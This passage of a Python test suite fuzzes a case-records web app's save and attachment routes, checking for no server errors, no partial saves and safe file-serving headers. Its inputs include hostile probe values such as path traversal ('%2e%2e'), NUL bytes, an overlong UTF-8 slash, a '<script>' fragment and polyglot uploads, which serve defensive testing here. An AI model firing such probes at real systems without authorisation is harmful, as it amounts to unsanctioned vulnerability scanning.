    token, _ = sessions.sign_in("wren.worker@example.org", PASSWORD)
    client = TestClient(http_routes(), raise_server_exceptions=True)  # a crash fails loudly
    client.cookies.set(sessions.COOKIE_NAME, token)
    statuses: dict[str, int] = {}
    saved: list[int] = []
    for what, body, content_type in _corpus(world):
        before = _counts()
        answer = client.post("/api/interactions", content=body,
                             headers={**ORIGIN, "Content-Type": content_type})
        statuses[what] = answer.status_code
        assert answer.status_code < 500, (what, answer.text)
        assert answer.headers["content-type"] == "application/json", what
        reply = answer.json()
        if answer.status_code == 201:
            saved.append(reply["id"])
            continue
        assert reply["outcome"] in ("invalid", "refused", "conflict"), (what, reply)
        assert any(isinstance(m, str) and m for m in
                   [reply.get("message"), *reply.get("errors", {}).values()]), (what, reply)
        assert _counts() == before, f"{what}: a refused save left something behind"
    # Probing ids: out of range for the database's integer, zero, padded. The same 404 as a
    # missing file, never a 500 (on PostgreSQL an out-of-range bind would be an error).
    # Regression: over 4,300 digits made Starlette's {…:int} convertor raise while matching.
    for probe in ("0", "00000000001" + "0" * 30, str(2**31), str(2**63), "9" * 400, "9" * 5000,
                  "-1", "1_0", "%C2%B2", "abc", "1%00", "%2e%2e"):
        for suffix in ("", "/thumbnail"):
            answer = client.get(f"/files/attachments/{probe}{suffix}")
            assert answer.status_code == 404, (probe, answer.status_code)
            assert answer.json() == {"error": "You do not have access to this file"}
        assert client.get(f"/admin/subject-access/{probe}").status_code < 500, probe
    print("\nhttp corpus:", statuses)
    # The corpus is not all refusals: duplicated fields and odd file names can still save.
    assert saved, statuses
    for iid in saved:
        _check_stored(world, iid)
        _check_served_over_http(client, iid)


FIELD_NAMES = ["case_id", "client_ref", "author", "kind", "text", "occurred_at", "private",
               "concern_level", "expected_version", "outcome", "attachments"]
raw_value = st.one_of(st.binary(max_size=200), st.sampled_from([
    b"\x00", b"ref\x00", b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xaf", b"-1", b"1e9", b"0x10",
    b"\xd9\xa3", b"99999999999999999999", b"0001-01-01T00:00+23:59", b"<script>", b"high"]))


def test_raw_form_field_bytes_through_the_save_route_never_get_a_500(world: World) -> None:
    """Any bytes in any field of the form, undecodable UTF-8 and NULs included; on both
    databases. The answer is below 500 and a refusal stores nothing."""
    token, _ = sessions.sign_in("wren.worker@example.org", PASSWORD)
    client = TestClient(http_routes(), raise_server_exceptions=True)
    client.cookies.set(sessions.COOKIE_NAME, token)
    statuses: Counter[int] = Counter()

    @settings(FUZZ, max_examples=30)
    @given(changed=st.dictionaries(st.sampled_from(FIELD_NAMES), raw_value, min_size=1,
                                   max_size=4))
    def one(changed: dict[str, bytes]) -> None:
        before = _counts()
        body = _body(*_good_fields(world, **changed))
        answer = client.post("/api/interactions", content=body,
                             headers={**ORIGIN, "Content-Type": MULTIPART})
        statuses[answer.status_code] += 1
        assert answer.status_code < 500, answer.text
        if answer.status_code != 201:
            assert _counts() == before
        else:
            _check_stored(world, answer.json()["id"])

    one()
    print(f"\nraw form fields: {dict(statuses)}")
    assert statuses[422] >= 5


def _check_served_over_http(client: TestClient, interaction_id: int) -> None:
    with session_scope() as db:
        ids = db.exec(select(Attachment.id).where(
            Attachment.interaction_id == interaction_id)).all()
    for attachment_id in ids:
        for path in (f"/files/attachments/{attachment_id}",
                     f"/files/attachments/{attachment_id}/thumbnail"):
            answer = client.get(path)
            assert answer.status_code == 200, path
            served_type = answer.headers["content-type"]
            assert not served_type.startswith(("text/html", "image/svg")), served_type
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in answer.headers["content-security-policy"]
            disposition = answer.headers["content-disposition"]
            if not served_type.startswith("image/"):
                assert disposition.startswith("attachment;"), disposition
            assert "\r" not in disposition and "\n" not in disposition and '"' not in disposition


@sqlite_only
def test_fuzzed_uploads_are_served_safely_over_http(world: World) -> None:
    """Stored fuzz files, fetched the way a browser does: never a page, never sniffed."""
    token, _ = sessions.sign_in("wren.worker@example.org", PASSWORD)
    client = TestClient(http_routes(), raise_server_exceptions=True)
    client.cookies.set(sessions.COOKIE_NAME, token)
    served: Counter[str] = Counter()

    @FUZZ
    @given(data=st.one_of(polyglot, mutated_real(), corrupted_header), name=file_name)
    def one(data: bytes, name: str) -> None:
        before = _counts()
        answer = client.post("/api/interactions", headers=ORIGIN,
                             data={"case_id": str(world.case_worker),
                                   "client_ref": uuid.uuid4().hex, "kind": "note",
                                   "text": "Fuzzed over HTTP"},
                             files=[("attachments", (name.encode("utf-8", "replace").decode(
                                 "utf-8", "replace"), data, "application/octet-stream"))])
        assert answer.status_code in (201, 422), answer.text
        if answer.status_code == 422:
            assert answer.json()["errors"]["attachments"]
            assert _counts() == before
            served["refused"] += 1
            return
        _check_stored(world, answer.json()["id"])
        _check_served_over_http(client, answer.json()["id"])
        served["stored"] += 1

    one()
    print(f"\nhttp fuzz: {dict(served)}")
    assert served["stored"] >= 3 and served["refused"] >= 3
